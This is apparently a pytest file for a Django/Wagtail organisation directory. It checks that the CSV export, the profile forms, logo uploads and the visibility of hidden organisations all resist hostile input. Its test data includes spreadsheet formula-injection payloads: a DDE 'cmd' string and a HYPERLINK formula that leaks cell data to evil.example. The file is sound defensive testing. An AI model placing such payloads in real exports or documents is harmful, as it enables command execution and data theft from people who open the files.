"""Hostile input around the directory and the organisation editors: spreadsheet formulas
in the open-data export, ids out of range, logos that are not what they claim, names of
hidden organisations."""

import csv
import io

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import connection
from django.test.utils import CaptureQueriesContext
from PIL import Image
from wagtail.images import get_image_model

from tests.factories import (
    ClusterDirectoryPageFactory,
    OrganisationFactory,
    OrganisationUserFactory,
    SectorFactory,
    StaffUserFactory,
    verified_user,
)

HUGE = "99999999999999999999999"
EDIT_URL = "/dashboard/organisations/{}/edit/"


# --- the directory's open-data export ------------------------------------------------------

FORMULAS = [
    "-1+cmd|' /C calc'!A0",
    '+1+HYPERLINK("http://evil.example/?leak="&A1,"click")',
    "=1+1",
    "@SUM(A1:A2)",
    "\t=1+1",
]


@pytest.mark.sqlite
@pytest.mark.django_db
def test_directory_csv_export_neutralises_every_formula(client, home_page):
    ClusterDirectoryPageFactory(parent=home_page)
    for number, formula in enumerate(FORMULAS):
        OrganisationFactory(
            name=f"Cluster {number}",
            objectives=formula,
            activities=formula,
            city=formula[:100],
            address=formula,
        )

    response = client.get("/clusters/export.csv")

    rows = list(csv.DictReader(io.StringIO(response.content.decode("utf-8-sig"))))
    assert len(rows) == len(FORMULAS)
    for row in rows:
        for column, value in row.items():
            assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), (column, value)
    objectives = {row["objectives"] for row in rows}
    assert "'-1+cmd|' /C calc'!A0" in objectives
    assert any(value.startswith("'+1+HYPERLINK") for value in objectives)


@pytest.mark.django_db
def test_directory_csv_export_keeps_numbers_as_numbers(client, home_page):
    ClusterDirectoryPageFactory(parent=home_page)
    OrganisationFactory(name="Southern Cluster", latitude="-33.900000", longitude="18.400000")

    rows = list(
        csv.DictReader(io.StringIO(client.get("/clusters/export.csv").content.decode("utf-8-sig")))
    )

    assert rows[0]["latitude"] == "-33.900000"


# --- ids out of range ----------------------------------------------------------------------


@pytest.fixture
def organisation(home_page):
    ClusterDirectoryPageFactory(parent=home_page)
    return OrganisationFactory(name="Vojvodina ICT Cluster", slug="voict")


@pytest.fixture
def org_admin(organisation):
    return OrganisationUserFactory(organisation=organisation, role="admin").user


def _profile_post(organisation, **changes):
    data = {
        "name": organisation.name,
        "stage": organisation.stage,
        "region": organisation.region,
        "city": organisation.city,
        "contacts-TOTAL_FORMS": "0",
        "contacts-INITIAL_FORMS": "0",
        "contacts-MIN_NUM_FORMS": "0",
        "contacts-MAX_NUM_FORMS": "20",
    }
    data.update(changes)
    return data


@pytest.mark.sqlite
@pytest.mark.django_db
@pytest.mark.parametrize("field", ["sectors", "technology_fields"])
@pytest.mark.parametrize("value", [HUGE, "-1", "0", "1e9", "1.5"])
def test_profile_form_refuses_ids_out_of_range_before_they_reach_the_database(
    client, organisation, org_admin, field, value
):
    """SQLite stops at 2**63 - 1 (OverflowError); an id no table hands out is refused as an
    invalid choice without asking the database."""
    client.force_login(org_admin)

    with CaptureQueriesContext(connection) as queries:
        response = client.post(
            EDIT_URL.format(organisation.slug), _profile_post(organisation, **{field: [value]})
        )

    assert response.status_code == 400
    assert response.context["form"].errors[field]
    assert not any(HUGE in query["sql"] for query in queries.captured_queries)


@pytest.mark.django_db
def test_profile_form_still_takes_real_sector_ids(client, organisation, org_admin):
    sector = SectorFactory(name="ICT", slug="ict")
    client.force_login(org_admin)

    response = client.post(
        EDIT_URL.format(organisation.slug), _profile_post(organisation, sectors=[str(sector.pk)])
    )

    assert response.status_code == 302
    assert list(organisation.sectors.all()) == [sector]


@pytest.mark.sqlite
@pytest.mark.django_db
def test_admin_organisation_filter_ignores_a_sector_id_out_of_range(client, organisation):
    client.force_login(StaffUserFactory())

    with CaptureQueriesContext(connection) as queries:
        response = client.get("/admin/snippets/membership/organisation/", {"sectors": HUGE})

    assert response.status_code == 200
    assert not any(HUGE in query["sql"] for query in queries.captured_queries)


# --- logos ---------------------------------------------------------------------------------


def _image(fmt="PNG", size=(40, 40)):
    buffer = io.BytesIO()
    Image.new("RGB", size, "navy").save(buffer, fmt)
    return buffer.getvalue()


@pytest.mark.sqlite
@pytest.mark.django_db
@pytest.mark.parametrize("length", [251, 253, 255])
def test_a_name_of_up_to_255_characters_with_a_logo_is_saved(
    client, organisation, org_admin, length
):
    client.force_login(org_admin)
    name = "Č" + "x" * (length - 1)
    data = _profile_post(organisation, name=name)
    data["logo_upload"] = SimpleUploadedFile("logo.png", _image(), content_type="image/png")

    response = client.post(EDIT_URL.format(organisation.slug), data)

    assert response.status_code == 302, response.context and response.context["form"].errors
    organisation.refresh_from_db()
    assert organisation.name == name
    assert organisation.logo is not None
    assert len(organisation.logo.title) <= 255
    assert organisation.logo.title.startswith("Čxxx")


@pytest.mark.sqlite
@pytest.mark.django_db
@pytest.mark.parametrize(
    ("filename", "content", "message"),
    [
        ("logo.jpg", _image("PNG"), "does not match"),
        ("logo.png", _image("JPEG"), "does not match"),
        ("logo.webp", _image("PNG"), "does not match"),
        ("logo.png", b"%PDF-1.4 not an image", "image"),
        ("logo.png", b"<svg xmlns='http://www.w3.org/2000/svg'/>", "image"),
        ("logo.exe", _image("PNG"), "format"),
        ("logo.gif", b"GIF89a" + b"\x00" * 20, "image"),  # a GIF header, nothing decodable
        ("logo.png", b"\x89PNG\r\n\x1a\n" + b"\x00" * 30, "image"),
    ],
)
def test_a_logo_whose_content_is_not_what_its_name_says_is_a_form_error(
    client, organisation, org_admin, filename, content, message
):
    client.force_login(org_admin)
    data = _profile_post(organisation)
    data["logo_upload"] = SimpleUploadedFile(filename, content, content_type="image/png")

    response = client.post(EDIT_URL.format(organisation.slug), data)

    assert response.status_code == 400
    errors = " ".join(response.context["form"].errors["logo_upload"])
    assert message in errors.lower()
    assert get_image_model().objects.count() == 0


@pytest.mark.django_db
def test_a_logo_with_more_pixels_than_allowed_is_a_form_error(
    client, organisation, org_admin, settings
):
    settings.WAGTAILIMAGES_MAX_IMAGE_PIXELS = 1000
    client.force_login(org_admin)
    data = _profile_post(organisation)
    data["logo_upload"] = SimpleUploadedFile(
        "logo.png", _image(size=(40, 40)), content_type="image/png"
    )

    response = client.post(EDIT_URL.format(organisation.slug), data)

    assert response.status_code == 400
    assert "pixels" in " ".join(response.context["form"].errors["logo_upload"])
    assert get_image_model().objects.count() == 0


# --- hidden organisations ------------------------------------------------------------------


@pytest.mark.sqlite
@pytest.mark.django_db
def test_editing_an_unpublished_organisation_of_others_answers_like_an_unknown_one(
    client, home_page
):
    OrganisationFactory(name="Stealth Robotics Cluster", slug="stealth", is_published=False)
    client.force_login(verified_user())

    hidden = client.get(EDIT_URL.format("stealth"))
    unknown = client.get(EDIT_URL.format("no-such-organisation"))

    assert hidden.status_code == unknown.status_code == 404
    assert "Stealth Robotics" not in hidden.content.decode()


@pytest.mark.django_db
def test_editing_a_published_organisation_of_others_is_refused(client, organisation):
    client.force_login(verified_user())

    response = client.get(EDIT_URL.format(organisation.slug))

    assert response.status_code == 403


# --- the staff editor ----------------------------------------------------------------------


def _admin_post_data(client, organisation, **changes):
    """The staff editor's form as rendered, with ``changes`` applied."""
    form = client.get(f"/admin/snippets/membership/organisation/edit/{organisation.pk}/").context[
        "form"
    ]
    data = {}
    for field in form:
        value = field.value()
        if value is None or value is False:
            continue
        if isinstance(value, list):
            value = [str(item) for item in value]
        elif "Draftail" in type(field.field.widget).__name__:
            value = field.field.widget.format_value(value)  # rich text posts as JSON
        data[field.name] = value
    for formset in form.formsets.values():
        for field in formset.management_form:
            data[f"{formset.prefix}-{field.name}"] = field.value()
    data.update(changes)
    return data


@pytest.mark.sqlite
@pytest.mark.django_db
def test_staff_editor_refuses_a_sector_id_out_of_range_and_takes_real_ones(client, organisation):
    sector = SectorFactory(name="ICT", slug="ict")
    client.force_login(StaffUserFactory())
    url = f"/admin/snippets/membership/organisation/edit/{organisation.pk}/"

    refused = client.post(url, _admin_post_data(client, organisation, sectors=[HUGE]))
    saved = client.post(url, _admin_post_data(client, organisation, sectors=[str(sector.pk)]))

    assert refused.status_code == 200
    assert refused.context["form"].errors["sectors"]
    assert saved.status_code == 302
    assert list(organisation.sectors.all()) == [sector]
